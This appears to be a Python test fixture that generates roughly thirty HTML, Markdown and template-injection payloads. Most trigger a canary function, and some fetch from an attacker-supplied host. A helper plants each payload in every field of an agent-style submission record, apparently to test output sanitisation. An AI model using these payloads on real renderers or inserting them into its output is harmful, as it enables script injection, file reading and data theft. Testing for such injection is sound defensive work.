"""What an attacker would like a page, a mail or a PDF to run or to fetch.

Each payload calls `marked()` or fetches from the attacker's server when it is run as markup.
"""

from typing import Any


def payloads(attacker: str) -> list[str]:
    """Return the payloads, aimed at a server of the attacker's."""
    run, fetch = "parent.marked&&marked()", f"{attacker}/stolen"
    return [
        f"<script>{run}</script>",
        f'"><script src="{fetch}.js"></script>',
        f"</script><script>{run}</script>",
        f"<img src=x onerror={run}>",
        f'<img src="{fetch}.png">',
        f"'><svg/onload={run}>",
        f"<svg><script>{run}</script></svg>",
        f'<iframe srcdoc="<script>{run}</script>"></iframe>',
        f'<iframe src="javascript:{run}"></iframe>',
        f'<link rel=stylesheet href="{fetch}.css">',
        f"<style>@import url({fetch}.css);</style>",
        f'<body background="{fetch}.gif">',
        f'<details open ontoggle="{run}">',
        f'<input autofocus onfocus="{run}">',
        f'<a href="javascript:{run}">click</a>',
        f'<base href="{attacker}/">',
        f'<meta http-equiv="refresh" content="0;url={fetch}">',
        f'<object data="{fetch}.swf"></object>',
        f'<video src="{fetch}.mp4" autoplay></video>',
        f'<form action="{fetch}"><button autofocus>Approve</button></form>',
        f"</textarea></title></style><script>{run}</script>",
        f"<!--><script>{run}</script>-->",
        f"<![CDATA[<script>{run}</script>]]>",
        f"<math><mtext><img src=x onerror={run}></mtext></math>",
        f"{{{{ constructor.constructor('{run}')() }}}}",
        f"{{% include '/etc/passwd' %}}${{{run}}}",
        f"[click](javascript:{run}) ![image]({fetch}.png)",
        f"javascript:{run}",
        f"\u202e<script>{run}</script>\u2066\u200b",
        f"&lt;script&gt;{run}&lt;/script&gt;",
    ]


def submission(text: str) -> dict[str, Any]:
    """Put the payload wherever an agent can write."""
    return {
        "summary": text[:500],
        "reason": text,
        "payload": {"amount": "900.00", "currency": text[:40], "note": text, text[:60]: [text]},
        "sources": ({"kind": "page", "title": text[:300], "uri": text, "digest": text[:200]},),
        "on_behalf_of": text[:200],
    }
